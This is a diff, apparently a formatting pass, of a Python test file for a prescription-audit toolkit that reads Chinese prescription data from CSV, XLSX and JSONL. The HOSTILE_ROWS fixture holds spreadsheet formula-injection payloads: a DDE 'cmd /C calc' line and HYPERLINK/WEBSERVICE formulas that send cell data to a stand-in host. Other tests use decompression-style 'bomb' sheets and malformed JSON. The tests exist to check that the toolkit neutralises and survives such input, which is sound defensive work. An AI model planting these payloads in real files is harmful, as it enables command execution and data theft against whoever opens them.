@@ -13,8 +13,22 @@ from tests.conftest import FIXTURES
 from toolkit.batch import BatchOptions, run_batch
 
 KB = str(FIXTURES / "kb")
-HEADER = ["处方号", "患者", "年龄", "性别", "诊断", "药品名称", "规格", "单次剂量", "剂量单位", "频次", "给药途径", "天数",
-          "医生", "科室"]
+HEADER = [
+    "处方号",
+    "患者",
+    "年龄",
+    "性别",
+    "诊断",
+    "药品名称",
+    "规格",
+    "单次剂量",
+    "剂量单位",
+    "频次",
+    "给药途径",
+    "天数",
+    "医生",
+    "科室",
+]
 FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -22,9 +36,32 @@ def opts(**kw: Any) -> BatchOptions:
     return BatchOptions(rules_dir=KB, workers=kw.pop("workers", 1), **kw)
 
 
-def row(rx: str, drug: str = "苯磺酸氨氯地平片", dose: str = "5", unit: str = "mg", days: str = "28",
-        doctor: str = "王医生", dept: str = "全科", freq: str = "qd") -> list[str]:
-    return [rx, "P1", "68", "男", "原发性高血压(I10)", drug, "5mg", dose, unit, freq, "口服", days, doctor, dept]
+def row(
+    rx: str,
+    drug: str = "苯磺酸氨氯地平片",
+    dose: str = "5",
+    unit: str = "mg",
+    days: str = "28",
+    doctor: str = "王医生",
+    dept: str = "全科",
+    freq: str = "qd",
+) -> list[str]:
+    return [
+        rx,
+        "P1",
+        "68",
+        "男",
+        "原发性高血压(I10)",
+        drug,
+        "5mg",
+        dose,
+        unit,
+        freq,
+        "口服",
+        days,
+        doctor,
+        dept,
+    ]
 
 
 def write_table(path: Path, rows: list[list[str]]) -> Path:
@@ -44,7 +81,7 @@ def journal(path: Path) -> list[dict[str, Any]]:
 HOSTILE_ROWS = [
     row("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"),
     row("=1+1", drug="-2+3", doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"),
-    row("+7", drug="代文", dose="abc", doctor="=WEBSERVICE(\"http://x\")", dept="-1+1"),
+    row("+7", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
     row("@x", drug="阿莫西林胶囊", doctor="-医生", dept="=科室"),
 ]
 
@@ -103,14 +140,27 @@ def test_neutralise_keeps_numbers_and_plain_text() -> None:
 
 # --------------------------------------------------------------------------- 2. honest statuses
 
+
 def _case(**item: Any) -> Any:
     from toolkit.records import AuditCase
 
-    line = {"drug": "苯磺酸氨氯地平片", "strength": "5mg", "dose": 5, "unit": "mg", "frequency": "qd", "route": "口服",
-            "days": 28}
+    line = {
+        "drug": "苯磺酸氨氯地平片",
+        "strength": "5mg",
+        "dose": 5,
+        "unit": "mg",
+        "frequency": "qd",
+        "route": "口服",
+        "days": 28,
+    }
     line.update(item)
-    return AuditCase.model_validate({"id": "X", "patient": {"age": 60, "sex": "M", "diagnoses": [
-        {"name": "原发性高血压", "icd10": "I10"}]}, "prescription": {"items": [line]}})
+    return AuditCase.model_validate(
+        {
+            "id": "X",
+            "patient": {"age": 60, "sex": "M", "diagnoses": [{"name": "原发性高血压", "icd10": "I10"}]},
+            "prescription": {"items": [line]},
+        }
+    )
 
 
 @pytest.fixture(scope="module")
@@ -120,8 +170,18 @@ def fixture_kb() -> Any:
     return get_knowledge(KB)
 
 
-@pytest.mark.parametrize("item", [{"drug": "某某未知药片"}, {"dose": -5}, {"dose": 0}, {"days": 0}, {"days": -3},
-                                  {"unit": "kg"}, {"quantity": -1}])
+@pytest.mark.parametrize(
+    "item",
+    [
+        {"drug": "某某未知药片"},
+        {"dose": -5},
+        {"dose": 0},
+        {"days": 0},
+        {"days": -3},
+        {"unit": "kg"},
+        {"quantity": -1},
+    ],
+)
 def test_a_line_the_engine_could_not_check_is_needs_review(fixture_kb: Any, item: dict[str, Any]) -> None:
     from toolkit.audit import AuditOptions, audit
     from toolkit.records import Severity
@@ -141,8 +201,16 @@ def test_a_clean_line_is_still_ok(fixture_kb: Any) -> None:
 
 
 def test_batch_counts_needs_review_and_an_unreadable_only_line_is_not_ok(tmp_path: Path) -> None:
-    rows = [row("0001"), row("0002", drug="某某未知药片"), row("0003", dose="-5"), row("0004", days="0"),
-            row("0005", unit="kg"), row("0006", dose="abc"), row("0007"), row("0007", drug="代文", dose="x")]
+    rows = [
+        row("0001"),
+        row("0002", drug="某某未知药片"),
+        row("0003", dose="-5"),
+        row("0004", days="0"),
+        row("0005", unit="kg"),
+        row("0006", dose="abc"),
+        row("0007"),
+        row("0007", drug="代文", dose="x"),
+    ]
     src = write_table(tmp_path / "rx.csv", rows)
     summary = run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = {c["id"]: c for c in journal(tmp_path / "out.jsonl")}
@@ -179,8 +247,11 @@ def test_reports_show_needs_review_separately(tmp_path: Path) -> None:
 
 # --------------------------------------------------------------------------- 3. decimal commas
 
-@pytest.mark.parametrize(("text", "expected"), [("2.5", 2.5), ("1,000", 1000.0), ("12,345.5", 12345.5),
-                                                ("-5", -5.0), ("  7 ", 7.0)])
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [("2.5", 2.5), ("1,000", 1000.0), ("12,345.5", 12345.5), ("-5", -5.0), ("  7 ", 7.0)],
+)
 def test_numbers_read_as_written(text: str, expected: float) -> None:
     from toolkit.batch.readers import _number
 
@@ -200,7 +271,9 @@ def test_decimal_comma_in_a_file_is_an_error_row_naming_file_row_field(tmp_path:
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     (case,) = journal(tmp_path / "out.jsonl")
     (r,) = case["rows"]
-    assert r["status"] == "error" and "rx.csv" in r["error"] and "row 2" in r["error"] and "'dose'" in r["error"]
+    assert (
+        r["status"] == "error" and "rx.csv" in r["error"] and "row 2" in r["error"] and "'dose'" in r["error"]
+    )
     assert "2,5" in r["error"] and case["status"] != "ok"
 
 
@@ -217,9 +290,14 @@ def test_a_huge_number_is_refused_quickly() -> None:
 
 # --------------------------------------------------------------------------- 4. a 处方号 seen again
 
+
 def test_a_reappearing_prescription_id_is_flagged_with_both_locations(tmp_path: Path) -> None:
-    rows = [row("0001", drug="华法林钠片", dose="2.5"), row("0002"), row("0003"), row("0001", drug="阿司匹林肠溶片",
-                                                                                         dose="100")]
+    rows = [
+        row("0001", drug="华法林钠片", dose="2.5"),
+        row("0002"),
+        row("0003"),
+        row("0001", drug="阿司匹林肠溶片", dose="100"),
+    ]
     src = write_table(tmp_path / "rx.csv", rows)
     run_batch(src, tmp_path / "out.jsonl", "jsonl", options=opts())
     lines = journal(tmp_path / "out.jsonl")
@@ -237,10 +315,25 @@ def test_a_reappearing_prescription_id_is_flagged_with_both_locations(tmp_path: 
 
 # --------------------------------------------------------------------------- 5. no line aborts a batch
 
+
 def _nested(case_id: Any = "A", **extra: Any) -> dict[str, Any]:
-    return {"id": case_id, "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
-            "prescription": {"items": [{"drug": "苯磺酸氨氯地平片", "dose": 5, "unit": "mg", "frequency": "qd",
-                                        "route": "口服", "days": 28}]}, **extra}
+    return {
+        "id": case_id,
+        "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
+        "prescription": {
+            "items": [
+                {
+                    "drug": "苯磺酸氨氯地平片",
+                    "dose": 5,
+                    "unit": "mg",
+                    "frequency": "qd",
+                    "route": "口服",
+                    "days": 28,
+                }
+            ]
+        },
+        **extra,
+    }
 
 
 @pytest.mark.parametrize("workers", [1, 2])
@@ -251,8 +344,20 @@ def test_hostile_jsonl_lines_become_error_lines_and_the_batch_goes_on(tmp_path: 
     many = _nested("M")
     many["prescription"]["items"] = many["prescription"]["items"] * 150
     src = tmp_path / "cases.jsonl"
-    src.write_text("\n".join([json.dumps(_nested("A")), deep, surrogate, surrogate_deep, json.dumps(many),
-                              json.dumps(_nested("Z"))]) + "\n", encoding="utf-8")
+    src.write_text(
+        "\n".join(
+            [
+                json.dumps(_nested("A")),
+                deep,
+                surrogate,
+                surrogate_deep,
+                json.dumps(many),
+                json.dumps(_nested("Z")),
+            ]
+        )
+        + "\n",
+        encoding="utf-8",
+    )
     out = tmp_path / "out.jsonl"
     summary = run_batch(src, out, "jsonl", options=opts(workers=workers, chunk_size=2))
     lines = journal(out)
@@ -263,8 +368,9 @@ def test_hostile_jsonl_lines_become_error_lines_and_the_batch_goes_on(tmp_path: 
     assert summary.cases == 6
 
 
-def test_an_exception_inside_one_case_is_that_cases_error_line(tmp_path: Path,
-                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_exception_inside_one_case_is_that_cases_error_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import toolkit.batch.runner as runner
 
     real = runner.audit
@@ -303,9 +409,12 @@ def test_clinic_extract_keeps_going_past_hostile_lines(tmp_path: Path) -> None:
     from toolkit.cli.main import app
 
     src = tmp_path / "texts.jsonl"
-    lines = ['{"id": "\\ud800", "text": "头痛三天"}', '{"id": "deep", "text": ' + "[" * 5000 + "]" * 5000 + "}",
-             json.dumps({"id": "digits", "text": "血压" + "9" * 19_999 + "mmHg"}),
-             json.dumps({"id": "ok", "text": "头痛三天。"}, ensure_ascii=False)]
+    lines = [
+        '{"id": "\\ud800", "text": "头痛三天"}',
+        '{"id": "deep", "text": ' + "[" * 5000 + "]" * 5000 + "}",
+        json.dumps({"id": "digits", "text": "血压" + "9" * 19_999 + "mmHg"}),
+        json.dumps({"id": "ok", "text": "头痛三天。"}, ensure_ascii=False),
+    ]
     src.write_text("\n".join(lines) + "\n", encoding="utf-8")
     out = tmp_path / "out.jsonl"
     start = time.perf_counter()
@@ -319,6 +428,7 @@ def test_clinic_extract_keeps_going_past_hostile_lines(tmp_path: Path) -> None:
 
 
 # --------------------------------------------------------------------------- 6. spreadsheets, bounded
+
 
 def _xlsx(path: Path, rows: list[list[Any]], extra: dict[str, list[list[Any]]] | None = None) -> Path:
     from openpyxl import Workbook
@@ -351,18 +461,21 @@ def test_xlsx_bomb_cell_is_an_error_row_not_a_crash(tmp_path: Path) -> None:
     wb.save(tmp_path / "bomb.xlsx")
     assert (tmp_path / "bomb.xlsx").stat().st_size < 10_000
     # in a child process with a memory cap: an allocation of the whole range would kill it
-    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30));"
-            "from toolkit.batch import run_batch, BatchOptions;"
-            f"run_batch({str(tmp_path / 'bomb.xlsx')!r}, {str(tmp_path / 'out.jsonl')!r}, 'jsonl', "
-            f"options=BatchOptions(workers=1, rules_dir={KB!r}))")
+    code = (
+        "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30));"
+        "from toolkit.batch import run_batch, BatchOptions;"
+        f"run_batch({str(tmp_path / 'bomb.xlsx')!r}, {str(tmp_path / 'out.jsonl')!r}, 'jsonl', "
+        f"options=BatchOptions(workers=1, rules_dir={KB!r}))"
+    )
     proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
     assert proc.returncode == 0, proc.stderr[-2000:]
     (line,) = journal(tmp_path / "out.jsonl")
     assert line["status"] == "error" and "limit" in line["error"] and "CSV" in line["error"]
 
 
-def test_declared_dimension_over_the_limit_is_refused_before_reading(tmp_path: Path,
-                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_declared_dimension_over_the_limit_is_refused_before_reading(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import toolkit.batch.readers as readers
 
     src = _xlsx(tmp_path / "rx.xlsx", [row("0001"), row("0002")])
@@ -371,8 +484,9 @@ def test_declared_dimension_over_the_limit_is_refused_before_reading(tmp_path: P
     assert unit.case is None and "over the limit of 20" in (unit.error or "") and "CSV" in (unit.error or "")
 
 
-def test_large_sheets_are_streamed_and_read_like_small_ones(tmp_path: Path,
-                                                            monkeypatch: pytest.MonkeyPatch) -> None:
+def test_large_sheets_are_streamed_and_read_like_small_ones(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import toolkit.batch.readers as readers
 
     src = _xlsx(tmp_path / "rx.xlsx", [row(f"{i:04d}") for i in range(30)])
@@ -425,7 +539,9 @@ def _with_dimension(src: Path, ref: str, dest: Path) -> Path:
     return dest
 
 
-def test_a_lying_dimension_loses_no_row_when_streamed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_lying_dimension_loses_no_row_when_streamed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import toolkit.batch.readers as readers
 
     src = _xlsx(tmp_path / "rx.xlsx", [row(f"{i:04d}") for i in range(12)])
@@ -440,14 +556,27 @@ def test_a_bomb_reference_cut_by_the_scan_block_boundary_is_still_seen(tmp_path:
 
     from toolkit.batch import readers
 
-    head = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-            b"<sheetData>")
+    head = (
+        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b"<sheetData>"
+    )
     bomb = b'<row r="2"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
     for cut in (3, 11, 20):  # the reference starts this many bytes before the 1 MiB boundary
-        filler = (1 << 20) - cut - len(head) - len(b'<row r="1"><c r="A1" t="inlineStr"><is><t></t></is></c></row>')
+        filler = (
+            (1 << 20)
+            - cut
+            - len(head)
+            - len(b'<row r="1"><c r="A1" t="inlineStr"><is><t></t></is></c></row>')
+        )
         filler -= len(b'<row r="2">')
-        xml = (head + b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"x" * filler + b"</t></is></c></row>"
-               + bomb + b"</sheetData></worksheet>")
+        xml = (
+            head
+            + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
+            + b"x" * filler
+            + b"</t></is></c></row>"
+            + bomb
+            + b"</sheetData></worksheet>"
+        )
         assert xml.index(b'<c r="XFD') == (1 << 20) - cut
         path = tmp_path / f"s{cut}.zip"
         with zipfile.ZipFile(path, "w") as z:
